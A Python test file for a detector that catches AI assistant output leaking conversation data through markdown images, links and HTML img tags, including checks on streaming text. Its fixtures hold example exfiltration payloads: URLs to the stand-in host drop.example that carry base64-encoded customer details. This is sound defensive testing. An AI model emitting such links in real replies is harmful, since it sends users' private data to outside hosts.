"""Pictures and links that carry data are told, whole and growing."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from excise.detectors.answers.links import Links
from excise.detectors.base import Glance
from excise.model import Part, Role, Segment

DATA = base64.b64encode(b"the customer said her name is Ada").decode().rstrip("=")
MORE = base64.b64encode(b"and that she has moved to another town by the sea, too").decode()
URL = f"https://drop.example/p.png?d={DATA}"
SEEN = {
    f"![a chart]({URL})": f"({URL})",
    f"![]( <{URL}> 'title' )": f"( <{URL}> 'title' )",
    f"[read on](https://drop.example/{MORE})": f"(https://drop.example/{MORE})",
    f"![c](//drop.example/?{DATA})": f"(//drop.example/?{DATA})",
    f'<img width=1 src="{URL}">': f'<img width=1 src="{URL}"',
    f"[1]: https://drop.example/{MORE}\n": f" https://drop.example/{MORE}",
    f"[![c]({URL})](https://page.example/)": f"({URL})",
}
UNSEEN = (
    f"[short for a link]({URL})", "![logo](https://cdn.example/img/logo-large.png)",
    f"![ours](https://files.intra.example/?d={DATA})", f"plain text: {URL}",
    f"![told](https://told.example/?d={DATA})", "![local](chart.png)",
)  # fmt: skip
GUARD = Links({"intra.example"}, lambda: [f"see https://told.example/?d={DATA} there"])


def glance(text: str) -> Glance:
    return Glance(Segment(text, Role.ASSISTANT, Part.COMPLETION, 0))


def places(text: str) -> list[str]:
    (sights,) = GUARD.find([glance(text)])
    return [text[each.span.start : each.span.end] for each in sights if each.score >= 0.75]


@pytest.mark.parametrize("text", SEEN)
def test_what_would_carry_data_is_told(text: str) -> None:
    """So much of it that the rest is plain text."""
    assert places(f"Well: {text} and so on") == [SEEN[text]]


@pytest.mark.parametrize("text", UNSEEN)
def test_what_carries_nothing_new_is_not(text: str) -> None:
    """Pages, own hosts, and what the request said itself."""
    assert places(text) == []


@given(st.sampled_from(sorted(SEEN)), st.text("a ]([!<:/\n", max_size=40), st.integers(0, 500))
def test_nothing_is_called_decided_before_it_is_whole(text: str, before: str, count: int) -> None:
    """Wherever a growing text is cut."""
    whole = f"{before}\n{text} "
    for span in [each.span for each in GUARD.find([glance(whole)])[0] if each.score >= 0.75]:
        cut = span.start + 1 + count % (span.end - span.start - 1)
        assert GUARD.hold(whole[:cut]) <= span.start


def test_ordinary_text_does_not_wait() -> None:
    """Only what may become an address."""
    assert GUARD.hold("a [b] c (d) <e> f") == len("a [b] c (d) <e> f")
    assert GUARD.hold("so ![a](http") == len("so ![a]")
